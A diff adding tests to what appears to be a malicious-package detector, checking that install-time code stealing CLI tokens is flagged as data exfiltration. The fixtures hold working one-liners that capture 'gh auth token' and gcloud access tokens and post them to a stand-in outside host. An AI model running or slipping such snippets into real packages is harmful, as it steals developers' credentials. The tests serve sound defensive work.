@@ -2621,6 +2621,27 @@ download(() => spawn(TARGET, [], { stdio: 'inherit' }));`;
   });
 });
 
+describe('a token a CLI prints, sent out from code', () => {
+  it('gh auth token and gcloud print-access-token captured with execSync and posted while installing', () => {
+    for (const code of [
+      `const { execSync } = require('child_process'); const t = execSync('gh auth token').toString().trim(); fetch('https://c.example-sync.dev/u', { method: 'POST', body: t });`,
+      `const { execFileSync } = require('child_process'); const t = execFileSync('gcloud', ['auth', 'print-access-token'], { encoding: 'utf8' }); fetch('https://c.example-sync.dev/u?t=' + t);`,
+    ])
+      expect(threatsOf(install(code))).toContain('data_exfiltration');
+  });
+  it('a release tool calling the GitHub API with the gh token, at run time, is not flagged', () => {
+    expect(
+      threatsOf(
+        analyzeSource({
+          'package.json': pkg(),
+          'index.js': `const { execSync } = require('child_process');
+module.exports = () => fetch('https://api.github.com/user', { headers: { Authorization: 'Bearer ' + execSync('gh auth token').toString().trim() } });`,
+        }),
+      ),
+    ).toEqual([]);
+  });
+});
+
 describe('two samples rewritten as an attacker would', () => {
   it('the terminal flood moved into a helper file the entry requires, its text in a config object, do … while (1)', () => {
     const r = analyzeSource({
